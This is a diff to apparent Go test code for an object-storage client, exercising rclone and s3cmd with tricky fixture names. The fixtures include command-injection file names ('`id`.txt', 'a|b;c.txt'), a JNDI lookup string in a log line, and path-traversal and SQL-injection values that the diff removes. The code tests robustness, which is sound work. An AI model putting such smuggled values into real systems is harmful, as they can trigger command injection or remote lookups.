@@ -57,7 +57,7 @@ func useObjects(f *flow) {
 	}
 	f.step("files", func() (string, error) {
 		for _, x := range append(oddFiles, []struct{ name, text string }{
-			{"deep/../etc/hosts.bak", "127.0.0.1 localhost\n"}, {".env", "KEY=1\n"}, {"backup/db.sql.gz",
+			{"etc/app.conf", "a=b\n"}, {".env", "KEY=1\n"}, {"backup/db.sql.gz",
 				"\x1f\x8b"}, {".git/config", "[core]\n"},
 			{"a|b;c.txt", "x"}, {"<b>.html", "<b>"}, {"`id`.txt", "y"}, {"logs/access.log",
 				"GET /?x=${jndi:ldap://e.example/a} 404\n"},
@@ -77,7 +77,7 @@ func useObjects(f *flow) {
 	rclone("cat", "cat", "x:"+bucket+"/data/query.sql")
 	rclone("move", "moveto", "x:"+bucket+"/data/index.php", "x:"+bucket+"/old/index's; (1).php")
 	rclone("metadata", "copyto", filepath.Join(files, "query.sql"), "x:"+bucket+"/meta.sql", "--header-upload",
-		"x-amz-meta-note: it's 'new'; select 1 -- <b>")
+		"x-amz-meta-note: it's 'new' & <b>")
 	rclone("copy back", "copy", "x:"+bucket, filepath.Join(f.work, "back"))
 	s3cmd("ls", "ls", "s3://"+bucket+"/data/")
 	s3cmd("put", "put", filepath.Join(files, "it's & (1);x.txt"), "s3://"+bucket+"/up/it's & (1);x.txt")
